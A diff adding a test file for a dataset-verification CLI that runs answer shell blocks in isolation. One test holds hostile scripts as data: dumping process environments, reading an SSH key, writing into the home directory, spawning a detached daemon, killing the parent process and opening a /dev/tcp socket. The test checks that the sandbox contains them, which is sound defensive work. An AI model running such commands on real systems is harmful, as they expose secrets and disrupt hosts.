@@ -1,0 +1,164 @@
+import { beforeAll, describe, expect } from "bun:test";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { cleanEnv, ROOT, runCli } from "../helpers/cli.ts";
+import { testWith, witnessBin } from "../helpers/deps.ts";
+
+const HAVE = Boolean(witnessBin()) && (Boolean(process.env.DOCKER_HOST) || existsSync("/var/run/docker.sock"));
+const FAST = join(ROOT, "fixtures/configs/witness-fast.toml");
+const tmp = (p: string): string => mkdtempSync(join(tmpdir(), `sekft-vs-${p}-`));
+type Line = { messages: { role: string; content: string }[] };
+type Result = {
+  type: string;
+  line: number;
+  ok: boolean;
+  cause?: string;
+  reason?: string;
+  failing_command?: string;
+  message?: string;
+  diagnoses?: { code: string }[];
+};
+const records = (stdout: string): Result[] =>
+  stdout
+    .split("\n")
+    .filter(Boolean)
+    .map((l) => JSON.parse(l) as Result);
+const withAnswer = (l: Line, answer: string): Line => ({ messages: [l.messages[0]!, l.messages[1]!, { role: "assistant", content: answer }] });
+
+describe("verify any dataset, safely (real witness, real Docker)", () => {
+  let good: Line;
+  let own = "";
+
+  beforeAll(async () => {
+    if (!HAVE) return;
+    own = tmp("own");
+    const r = await runCli(["gen", "--config", FAST, "--count", "1", "--workers", "1", "--out", own], { env: cleanEnv() });
+    expect(r.code, r.stderr).toBe(0);
+    good = JSON.parse(readFileSync(join(own, "witness", "train.jsonl"), "utf8").split("\n")[0]!) as Line;
+  }, 300_000);
+
+  testWith(
+    HAVE,
+    "a foreign dataset in ```bash and ```console blocks: per line the failing command, witness's message and the cause",
+    async () => {
+      const a = good.messages[2]!.content.replaceAll("```sh\n", "```bash\n");
+      const hex = "ab".repeat(32);
+      const cases: [string | undefined, string, RegExp | undefined][] = [
+        [undefined, a, undefined],
+        [undefined, a.replace(/```bash\n(witness verify [^\n]*)\n```/, "```console\n$ $1\nVerification succeeded\n```"), undefined],
+        ["literal-keyid", a.replace(/check_keyid=\$\(openssl dgst[^\n]*/, `check_keyid=${hex}`), /^witness /],
+        ["expired-policy", a.replaceAll("2099-12-31T23:59:59Z", "2021-01-01T00:00:00Z"), /^witness policy check policy\.json/],
+        [
+          "missing-file",
+          `${a.replace("cat > policy.json <<EOF", "cat > /dev/null <<EOF")}\n\n\`\`\`json\n{"expires": "2099-12-31T23:59:59Z"}\n\`\`\`\n`,
+          /^witness policy check policy\.json/,
+        ],
+        [
+          "unknown-flag",
+          a.replace("witness sign -k keys/policy.key", "witness sign --signer-file-key-passphrase secret -k keys/policy.key"),
+          /--signer-file-key-passphrase/,
+        ],
+      ];
+      const dir = tmp("foreign");
+      const file = join(dir, "foreign.jsonl");
+      writeFileSync(file, cases.map(([, ans]) => `${JSON.stringify(withAnswer(good, ans))}\n`).join(""));
+      const r = await runCli(["verify", file, "--workers", "2", "--json"], { env: cleanEnv() });
+      expect(r.code, r.stderr).toBe(1);
+      expect(r.stderr).toContain("each in a sandbox container");
+      const results = records(r.stdout);
+      const summary = results.find((x) => x.type === "summary") as unknown as { passed: number; failed: number; causes: Record<string, { count: number }> };
+      expect(summary.passed).toBe(2);
+      expect(summary.failed).toBe(4);
+      cases.forEach(([cause, , failing], i) => {
+        const res = results.find((x) => x.type === "result" && x.line === i + 1)!;
+        expect(res.ok, `line ${i + 1}: ${res.reason} ${res.message}`).toBe(cause === undefined);
+        if (!cause) return;
+        expect(res.cause, `line ${i + 1}`).toBe(cause);
+        expect(res.failing_command, `line ${i + 1}`).toMatch(failing!);
+        expect(res.message, `line ${i + 1}`).toBeTruthy();
+        expect(summary.causes[cause]!.count).toBe(1);
+      });
+      expect(results.find((x) => x.line === 5)!.diagnoses![0]).toMatchObject({ code: "missing-file" });
+      expect(JSON.stringify(results.find((x) => x.line === 5))).toContain("only as a ```json block");
+      // The human summary groups by cause with a count and an example line.
+      expect(r.stderr).toMatch(/failures by cause:\n(\s+[\w-]+\s+1\s+e\.g\. line \d+: .+\n?){4}/);
+      expect(r.stderr).toMatch(/foreign\.jsonl:3: .*\n\s+failed at: /);
+    },
+    600_000,
+  );
+
+  for (const mode of ["default", "--host", "--sandbox"] as const) {
+    testWith(
+      HAVE,
+      `a hostile dataset reaches nothing on the host (${mode})`,
+      async () => {
+        const dir = tmp("hostile");
+        const home = join(dir, "home");
+        mkdirSync(join(home, ".ssh"), { recursive: true });
+        writeFileSync(join(home, ".ssh", "id_test"), "SSH-KEY-MATERIAL-7f3a\n");
+        const marker = join(dir, "daemon-was-here");
+        let connections = 0;
+        const server = Bun.listen({ hostname: "127.0.0.1", port: 0, socket: { open: () => void (connections += 1), data: () => undefined } });
+        const tail = "\nwitness verify -p policy.signed.json -k policy.pub -a att.json -f artifact\n";
+        const scripts = [
+          `tr '\\0' ' ' < /proc/$PPID/environ >&2; tr '\\0' ' ' < /proc/1/environ >&2; false`,
+          `echo pwned > "$HOME/pwned"; echo pwned > ~/pwned2; echo pwned > "${home}/pwned3"; false`,
+          `setsid sh -c 'sleep 10; echo late > "${marker}"' > /dev/null 2>&1 < /dev/null &\nsleep 1; false`,
+          "kill -9 $PPID; sleep 1; false",
+          `cat ~/.ssh/id_test >&2 || true; cat "${home}/.ssh/id_test" >&2; false`,
+          `exec 3<>/dev/tcp/127.0.0.1/${server.port} && echo hello >&3; false`,
+        ];
+        const file = join(dir, "hostile.jsonl");
+        writeFileSync(file, scripts.map((s) => `${JSON.stringify(withAnswer(good, `Run this:\n\n\`\`\`bash\n${s}${tail}\`\`\`\n`))}\n`).join(""));
+        const secret = "sk-test-0c9d8e7f6a5b4c3d2e1f";
+        const env = cleanEnv({ HOME: home, SEKFT_TEST_SECRET: secret, OPENAI_API_KEY: secret });
+        const args = ["verify", file, "--workers", "2", "--json", ...(mode === "default" ? [] : [mode])];
+        const r = await runCli(args, { env });
+        server.stop(true);
+        // sekft survived every line (kill -9 $PPID included) and reported each as a failure.
+        expect(r.code, r.stderr).toBe(1);
+        const results = records(r.stdout).filter((x) => x.type === "result");
+        expect(results.map((x) => x.line).sort()).toEqual([1, 2, 3, 4, 5, 6]);
+        expect(results.every((x) => !x.ok)).toBe(true);
+        expect(r.stderr).toMatch(/^0 passed, 6 failed$/m);
+        expect(r.stdout + r.stderr).not.toContain(secret);
+        expect(r.stdout + r.stderr).not.toContain("SSH-KEY-MATERIAL");
+        expect(readdirSync(home).filter((f) => f.startsWith("pwned"))).toEqual([]);
+        expect(connections).toBe(0);
+        await Bun.sleep(11_000);
+        expect(existsSync(marker)).toBe(false);
+      },
+      600_000,
+    );
+  }
+
+  testWith(
+    HAVE,
+    "our own dataset verifies on the host by default and in the sandbox with --sandbox; --fail-fast and --sample",
+    async () => {
+      const train = join(own, "witness", "train.jsonl");
+      const host = await runCli(["verify", train], { env: cleanEnv() });
+      expect(host.code, host.stderr).toBe(0);
+      expect(host.stderr).toContain("on the host, isolated");
+      const boxed = await runCli(["verify", train, "--sandbox"], { env: cleanEnv() });
+      expect(boxed.code, boxed.stderr).toBe(0);
+      expect(boxed.stderr).toContain("each in a sandbox container");
+      const dir = tmp("ff");
+      const bad = withAnswer(good, "```sh\nfalse\nwitness verify\n```\n");
+      writeFileSync(join(dir, "mixed.jsonl"), `${[bad, bad, bad, good, good].map((l) => JSON.stringify(l)).join("\n")}\n`);
+      const ff = await runCli(["verify", join(dir, "mixed.jsonl"), "--workers", "1", "--fail-fast", "--json", "--host"], { env: cleanEnv() });
+      expect(ff.code).toBe(1);
+      expect(records(ff.stdout).filter((x) => x.type === "result")).toHaveLength(1);
+      const pick = async (seed: string): Promise<number[]> =>
+        records((await runCli(["verify", join(dir, "mixed.jsonl"), "--sample", "2", "--seed", seed, "--json", "--host"], { env: cleanEnv() })).stdout)
+          .filter((x) => x.type === "result")
+          .map((x) => x.line)
+          .sort();
+      const first = await pick("5");
+      expect(first).toHaveLength(2);
+      expect(await pick("5")).toEqual(first);
+    },
+    600_000,
+  );
+});
